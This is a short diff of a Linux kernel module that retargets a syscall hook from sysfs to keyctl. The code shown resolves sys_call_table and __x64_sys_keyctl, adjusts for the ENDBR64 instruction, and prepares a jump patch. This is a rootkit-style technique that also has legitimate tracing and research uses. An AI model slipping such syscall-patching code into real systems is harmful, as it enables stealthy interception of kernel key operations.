@@ -9,7 +9,7 @@
 #include <linux/string.h>
 #include <linux/syscalls.h>
 
-#define NUMBER __NR_sysfs
+#define NUMBER __NR_keyctl
 
 static long hooked(const struct pt_regs *regs)
 {
@@ -42,7 +42,7 @@ static int __init table_hook_init(void)
 	if (*(u32 *)((u8 *)lookup - 4) == 0xfa1e0ff3)
 		lookup = (void *)((u8 *)lookup - 4);
 	table = (unsigned long *)lookup("sys_call_table");
-	victim = (u8 *)lookup("__x64_sys_sysfs");
+	victim = (u8 *)lookup("__x64_sys_keyctl");
 	if (!table || !victim)
 		return -ENOENT;
 	memcpy(jump + 2, &target, 8);
